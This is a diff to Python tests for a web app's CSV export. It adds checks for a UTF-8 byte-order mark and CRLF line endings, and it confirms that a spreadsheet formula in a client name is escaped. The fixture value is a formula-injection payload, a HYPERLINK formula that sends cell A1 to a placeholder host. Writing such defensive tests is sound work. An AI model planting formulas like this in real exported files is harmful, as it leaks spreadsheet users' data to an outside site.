@@ -49,7 +49,10 @@ async def test_the_matrix_health_and_volume_name_each_id(sqlite_url: str, tmp_pa
     assert health == [[POPULATION, NAMES[POPULATION], POPULATION]]
     assert [NAMES[POPULATION], POPULATION] in series and ["(not identified)", ""] in series
     assert tooltip == [f"{NAMES[POPULATION]}: 6", POPULATION]
-    lines = (tmp_path / "matrix.csv").read_text(encoding="utf-8").splitlines()
+    saved = (tmp_path / "matrix.csv").read_bytes()
+    # A spreadsheet that assumes the PC's code page reads the names right only after a BOM.
+    assert saved.startswith(b"\xef\xbb\xbfclient,"), saved[:20]
+    lines = saved.decode("utf-8-sig").split("\r\n")
     assert lines[0] == "client,provider,count,succeeded,failed,client_name,provider_name"
     assert f"{CIVIL},{POPULATION},3,3,0,{NAMES[CIVIL]},{NAMES[POPULATION]}" in lines
     assert problems == []
@@ -68,7 +71,7 @@ async def test_the_csv_marks_a_name_a_spreadsheet_would_run(
         async with page.expect_download() as info:
             await page.click("#matrix-csv")
         await (await info.value).save_as(tmp_path / "matrix.csv")
-    lines = (tmp_path / "matrix.csv").read_text(encoding="utf-8").splitlines()
+    lines = (tmp_path / "matrix.csv").read_text(encoding="utf-8-sig").splitlines()
     row = next(line for line in lines if line.startswith(f"{CIVIL},"))
     assert ',"\'=HYPERLINK(""http://example.invalid/?""&A1) · Hệ thống' in row, row
     assert problems == []
